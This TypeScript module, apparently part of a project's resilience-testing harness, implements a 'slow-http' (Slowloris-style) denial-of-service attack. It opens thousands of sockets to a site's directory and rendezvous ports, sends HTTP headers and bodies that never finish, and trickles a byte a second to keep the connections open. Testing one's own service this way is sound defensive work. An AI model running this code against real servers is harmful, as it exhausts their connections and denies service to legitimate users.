import { SEALED_MESSAGE_BYTES } from "../../protocol/limits.ts";
import type { Attack } from "./attack.ts";
import { pace, Sockets } from "./traffic.ts";

const SOCKETS = 5_000;
const PER_SECOND = 400;

const BODY = Buffer.alloc(SEALED_MESSAGE_BYTES - 1024);
const POST = `POST /v1/messages HTTP/1.1\r\nHost: x\r\nContent-Length: ${SEALED_MESSAGE_BYTES}\r\n\r\n`;

/** Heads and bodies that never come to their end, a byte a second; bodies as long as they may be, but for the last bytes. */
export const slowHttp: Attack = {
  name: "slow-http",
  from: "elsewhere",
  surface: "directory and rendezvous: HTTP heads and bodies",
  async run(site, signal) {
    const sockets = new Sockets(SOCKETS);
    const drip = setInterval(() => {
      for (const socket of sockets) if (socket.writable && socket.writableLength === 0) socket.write("x");
    }, 1_000);
    const opened = await pace(PER_SECOND, signal, (n) => {
      const { directoryPort, rendezvousPort } = site;
      const kind = n % 8;
      if (kind < 2) sockets.open(directoryPort)?.write("POST /v1/messages HTTP/1.1\r\nX-A: ");
      else if (kind < 4) sockets.open(rendezvousPort)?.write("GET /healthz HTTP/1.1\r\nX-A: ");
      else if (kind < 6) sockets.open(directoryPort)?.write(POST);
      else if (kind === 6) sockets.open(directoryPort)?.write(`${POST}${"x".repeat(100)}`);
      else {
        const socket = sockets.open(directoryPort);
        socket?.write(POST);
        socket?.write(BODY);
      }
    });
    clearInterval(drip);
    await sockets.close();
    return `${opened} requests that never end`;
  },
};
